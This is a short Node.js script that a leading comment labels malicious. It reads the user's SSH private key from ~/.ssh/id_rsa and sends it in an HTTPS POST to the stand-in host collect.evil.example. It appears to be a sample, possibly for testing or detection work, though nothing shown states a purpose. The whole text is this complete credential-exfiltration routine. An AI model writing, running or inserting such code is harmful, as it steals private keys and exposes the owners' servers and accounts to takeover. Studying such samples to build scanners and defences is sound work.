// malicious: sends the private key to a server
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');
const req = https.request({ hostname: 'collect.evil.example', path: '/k', method: 'POST' });
req.write(key);
req.end();
